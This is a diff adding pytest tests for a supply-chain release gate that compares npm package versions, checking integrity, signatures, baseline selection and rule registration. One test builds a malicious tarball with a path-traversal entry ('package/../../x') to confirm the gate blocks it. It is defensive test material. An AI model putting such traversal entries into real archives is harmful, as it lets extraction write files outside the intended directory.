+    from gatekeeper.gates import diff as gate
+
+    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")})
+    ctx = gate_ctx(tmp_path, fixture("ms-2.1.3"), reg)
+    findings = gate.check(ctx)
+    assert [f.rule for f in findings] == ["baseline-signature-unavailable"]
+    assert findings[0].severity is Severity.INFO
+    result = gate.compute(ctx)
+    assert gate.compute(ctx) is result and len(reg.downloads) == 1  # cached per Context
+    assert result.baseline and result.baseline["version"] == "2.1.2" and result.baseline["integrity_ok"] is True
+    extras = gate.report_extras(ctx)
+    assert extras.previous == result.baseline and "Release diff" in extras.markdown and "index.js" in extras.markdown
+    assert gate.NAME == "diff"
+
+
+def test_gate_version_exists(tmp_path: Path) -> None:
+    from gatekeeper.gates import diff as gate
+
+    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2"), "2.1.3": fixture("ms-2.1.3")})
+    findings = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+    (f,) = [f for f in findings if f.rule == "version-exists"]
+    assert f.blocks and "ms@2.1.3 is already on the registry" in f.message and f.file == "package.json"
+    assert gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg)).baseline_version == "2.1.2"
+
+
+def test_gate_backport_diffs_against_the_highest_version_below(tmp_path: Path) -> None:
+    from gatekeeper.gates import diff as gate
+
+    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2"), "3.0.0": fixture("ms-2.1.3")}, tags={"latest": "3.0.0"})
+    result = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+    assert result.baseline_version == "2.1.2" and "backport" in str(result.baseline and result.baseline["reason"])
+    assert not any(f.blocks for f in result.findings)
+
+
+def test_gate_baseline_tag_from_policy(tmp_path: Path) -> None:
+    from gatekeeper.gates import diff as gate
+
+    reg = FakeRegistry(
+        "ms", {"2.1.1": fixture("ms-2.1.2"), "2.1.2": fixture("ms-2.1.2")}, tags={"latest": "2.1.2", "stable": "2.1.1"}
+    )
+    result = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg, parse_policy("diff: {baseline-tag: stable}")))
+    assert result.baseline is not None and result.baseline["version"] == "2.1.1"
+    assert "stable" in str(result.baseline["reason"])
+
+
+def test_gate_first_release_warns_or_blocks_by_policy(tmp_path: Path) -> None:
+    from gatekeeper.gates import diff as gate
+
+    reg = FakeRegistry("ms", {})
+    (f,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+    assert f.rule == "first-release" and f.severity is Severity.WARN and "first release" in f.message
+    (g,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg, parse_policy("diff: {first-release: block}")))
+    assert g.rule == "first-release" and g.blocks
+
+
+def test_gate_integrity_mismatch_blocks_and_skips_the_diff(tmp_path: Path) -> None:
+    from gatekeeper.gates import diff as gate
+
+    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")})
+    reg.blobs[next(iter(reg.blobs))] = fixture("ms-2.1.3").read_bytes()  # the CDN serves other bytes
+    result = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+    (f,) = result.findings
+    assert f.rule == "baseline-integrity-mismatch" and f.blocks and "ms@2.1.2" in f.message
+    assert result.files == [] and result.baseline and result.baseline["integrity_ok"] is False
+
+
+def test_gate_signatures(tmp_path: Path) -> None:
+    import base64
+
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+
+    from gatekeeper.gates import diff as gate
+
+    private = ec.generate_private_key(ec.SECP256R1())
+    spki = private.public_key().public_bytes(
+        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
+    )
+    keys = [
+        {"keyid": "SHA256:k", "keytype": "ecdsa-sha2-nistp256", "key": base64.b64encode(spki).decode(), "expires": None}
+    ]
+    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")}, keys=keys)
+    dist = reg.doc["versions"]["2.1.2"]["dist"]  # type: ignore[index]
+    message = f"ms@2.1.2:{dist['integrity']}".encode()
+    dist["signatures"] = [
+        {"keyid": "SHA256:k", "sig": base64.b64encode(private.sign(message, ec.ECDSA(hashes.SHA256()))).decode()}
+    ]
+    good = gate.compute(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+    assert good.findings == [] and good.baseline and good.baseline["signature"] == "verified"
+    dist["signatures"][0]["sig"] = base64.b64encode(private.sign(b"other", ec.ECDSA(hashes.SHA256()))).decode()
+    (bad,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+    assert bad.rule == "baseline-signature-invalid" and bad.blocks and "does not verify" in bad.message
+    keys[0]["expires"] = "2023-01-01T00:00:00Z"
+    dist["signatures"][0]["sig"] = base64.b64encode(private.sign(message, ec.ECDSA(hashes.SHA256()))).decode()
+    (expired,) = gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+    assert expired.rule == "baseline-signature-invalid" and "expired" in expired.message
+
+
+def test_gate_unsafe_candidate_never_reaches_the_registry(tmp_path: Path) -> None:
+    from gatekeeper.gates import diff as gate
+
+    evil = tmp_path / "evil.tgz"
+    evil.write_bytes(
+        gz(tar_bytes([Entry("package/package.json", package_json().encode()), Entry("package/../../x", b"x")]))
+    )
+    reg = FakeRegistry("demo", {})
+    (f,) = gate.check(gate_ctx(tmp_path, evil, reg))
+    assert f.rule == "tarball-unsafe" and f.blocks and reg.downloads == []
+
+
+def test_gate_faults_raise_gatekeeper_errors(tmp_path: Path) -> None:
+    from dataclasses import replace
+
+    from gatekeeper.errors import GatekeeperError, RegistryError
+    from gatekeeper.gates import diff as gate
+
+    ctx = gate_ctx(tmp_path, fixture("ms-2.1.3"), FakeRegistry("ms", {}))
+    with pytest.raises(GatekeeperError, match="no packed tarball"):
+        gate.check(replace(ctx, tarball=None))
+    reg = FakeRegistry("ms", {"2.1.2": fixture("ms-2.1.2")})
+    del reg.doc["versions"]["2.1.2"]["dist"]["tarball"]  # type: ignore[index]
+    with pytest.raises(RegistryError, match="no tarball"):
+        gate.check(gate_ctx(tmp_path, fixture("ms-2.1.3"), reg))
+
+
+def test_every_diff_rule_is_registered_with_a_fix() -> None:
+    from gatekeeper.rules import all_rules
+
+    rules = all_rules()
+    for rid in [
+        "lifecycle-script-added",
+        "lifecycle-script-changed",
+        "lifecycle-script-removed",
+        "install-script-code-changed",
+        "native-build-added",
+        "dependency-added",
+        "dependency-source-changed",
+        "bundled-dependencies-changed",
+        "bin-changed",
+        "entrypoint-changed",
+        "sensitive-file",
+        "executable-binary-added",
+        "obfuscated-code",
+        "version-not-increasing",
+        "large-change",
+        "tarball-unsafe",
+        "baseline-integrity-mismatch",
+        "baseline-signature-invalid",
+        "baseline-signature-unavailable",
+        "first-release",
+        "version-exists",
+        "approved-change",
+    ]:
+        assert rid in rules and rules[rid].fix and rules[rid].title
